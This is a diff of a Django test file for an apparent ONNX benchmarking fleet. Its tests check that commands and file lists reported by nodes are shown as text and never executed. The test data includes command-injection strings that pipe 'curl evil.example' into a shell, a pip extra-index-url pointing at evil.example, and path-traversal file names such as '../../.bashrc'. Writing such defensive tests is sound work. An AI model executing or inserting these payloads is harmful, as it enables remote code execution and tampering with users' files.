@@ -1,12 +1,10 @@
 """What a node says is shown as text and never becomes a command: reports, stored rows of before, answers of its own."""
 
 import json
-from collections.abc import Callable
 
 import pytest
 from django.test import Client
 
-from farm.accounts.models import User
 from farm.contract.divergence import DivergenceReport
 from farm.contract.reports import EndReport
 from farm.fleet.models import Node
@@ -17,7 +15,6 @@ from tests.integration.runs.test_divergences import answer, ask
 from tests.unit.rules.making import make_facts
 
 pytestmark = pytest.mark.django_db
-ApiOf = Callable[..., Client]
 HOSTILE = "onnxfarm bench 'encoder.onnx; curl evil.example | sh"
 OWN = "onnxfarm bench encoder.onnx --ort 1.29.0 --provider CPUExecutionProvider --batch 1 --threads 1 --precision fp32"
 PIP = {"numpy": "2.4.6\n--extra-index-url https://evil.example/simple", "-r": "https://evil.example/list"}
@@ -45,11 +42,8 @@ def test_a_report_of_before_with_a_broken_quote_is_read_and_its_command_is_not(d
     assert (found.status, found.repeat_command, found.packages) == ("done", OWN, {})
 
 
-def test_a_node_cannot_choose_the_command_and_the_files_of_its_answer(
-    api_of: ApiOf, member: User, node: Node, done: Run
-) -> None:
-    client = api_of(member)
-    ask(client, done)
+def test_a_node_cannot_choose_the_command_and_the_files_of_its_answer(member_api: Client, node: Node, done: Run):
+    ask(member_api, done)
     said = answer().model_dump(mode="json", by_alias=True)
     said["model"] = said["found"]["part"]["main"] = "$(curl evil.example).onnx"
     said["found"]["part"] |= {"command": HOSTILE, "files": ["../../.bashrc", "/etc/evil.example", "inputs.npz"]}
